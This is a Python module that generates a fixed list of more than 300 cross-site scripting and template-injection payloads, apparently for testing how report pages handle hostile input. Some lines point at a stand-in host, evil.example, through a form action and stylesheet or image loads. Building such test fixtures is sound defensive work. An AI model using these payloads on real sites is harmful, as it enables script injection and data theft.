"""Hostile words: ways in which a report could try to run a script in a page, generated and listed once each."""

from __future__ import annotations

from urllib.parse import quote

RUN = "pwned()"
_CODES = "".join(f"&#{ord(c)};" for c in RUN)
_HEX = "".join(f"&#x{ord(c):x};" for c in RUN)
_TAGS = ("img src=x", "svg", "body", "iframe", "video src=x", "audio src=x", "input autofocus", "details open",
         "marquee", "select autofocus", "object data=x", "embed src=x", "style", "link rel=stylesheet href=x",
         "a href=#", "math", "textarea autofocus", "keygen autofocus", "isindex", "x tabindex=1")  # fmt: skip
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart", "onpointerenter")
_BREAKS = ("", '">', "'>", "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>", "</bdi>", "</svg>",
           "<!--><")  # fmt: skip
_SCRIPTS = (
    f"<script>{RUN}</script>", f"<ScRiPt>{RUN}</sCrIpT>", f"<script/x>{RUN}</script>", f"<script\n>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"<script src=data:text/javascript,{quote(RUN)}></script>",
    f"<svg><script>{_CODES}</script></svg>", f"<svg><script href=data:,{quote(RUN)} /></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<template><script>{RUN}</script></template>", f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
)  # fmt: skip
_ADDRESSES = (
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"&#106;avascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"data:text/html,<script>{RUN}</script>", f"vbscript:{RUN}", f"\x01javascript:{RUN}", f"//evil.example/{RUN}",
)  # fmt: skip
_OTHERS = (
    "{{7*7}}{{ cycler.__init__.__globals__ }}", "{% raw %}{{ x }}", "${7*7}", "#{7*7}", f"';{RUN};//", f'";{RUN};//',
    f"`-{RUN}-`", f"\\';{RUN}//", f"</script><script>{RUN}</script>", f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e", f"＜script＞{RUN}＜/script＞",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f'" hx-on:load="{RUN}', f'" hx-get="/" hx-trigger="load" hx-on::after-request="{RUN}', f"<div hx-on:load='{RUN}'>",
    '<form action="https://evil.example"><input name=csrf>', "<base href=https://evil.example/>",
    "<img src=https://evil.example/x.png>",
    "<style>@import 'https://evil.example/x.css'</style>", f"<style>*{{background:url(javascript:{RUN})}}</style>",
    '"><link rel=stylesheet href=https://evil.example/x.css>', f"<a href='javascript:{RUN}' id=main>x</a>",
    "\u202eevil\u202c", "\u2066<b>\u2069", "<\x00script>", f"<img src=`x`onerror={RUN}>", f"<img/src=x/onerror={_HEX}>",
)  # fmt: skip


def payloads() -> tuple[str, ...]:
    """At least 300 of them, each once, always the same."""
    found = [f"{b}<{tag} {event}={RUN}>" for i, tag in enumerate(_TAGS) for j, event in enumerate(_EVENTS)
             for b in (_BREAKS[(i * len(_EVENTS) + j) % len(_BREAKS)],)]  # fmt: skip
    found += [f"{b}{script}" for script in _SCRIPTS for b in _BREAKS[:7]]
    found += [f'{b}<a href="{address}">x</a>' for address in _ADDRESSES for b in _BREAKS[:4]]
    found += [f'<iframe src="{address}"></iframe>' for address in _ADDRESSES]
    found += [f"x{quote_}{event}={RUN} x={quote_}" for quote_ in ('"', "'", "` ") for event in _EVENTS]
    found += [f"<b {event}\n=\n{_CODES}>" for event in _EVENTS]
    return tuple(dict.fromkeys([*found, *_OTHERS]))
